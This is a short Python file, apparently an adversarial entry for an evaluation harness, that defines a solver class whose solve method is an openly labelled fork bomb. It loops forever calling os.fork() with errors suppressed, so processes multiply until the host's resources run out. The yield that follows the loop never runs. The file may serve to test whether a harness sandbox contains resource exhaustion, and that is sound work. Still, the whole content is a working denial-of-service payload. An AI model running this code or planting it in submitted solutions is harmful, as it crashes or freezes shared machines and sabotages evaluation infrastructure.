"""A fork bomb: every process forks for ever."""

import contextlib
import os
import time
from dataclasses import dataclass

from harness.api import Solver


@dataclass(frozen=True)
class ForksWithoutEnd(Solver):
    """A fork bomb."""

    problem = "vault"

    def solve(self, data, rng):
        while True:
            with contextlib.suppress(OSError):
                os.fork()
            time.sleep(0.001)
        yield data["noisy"].copy()
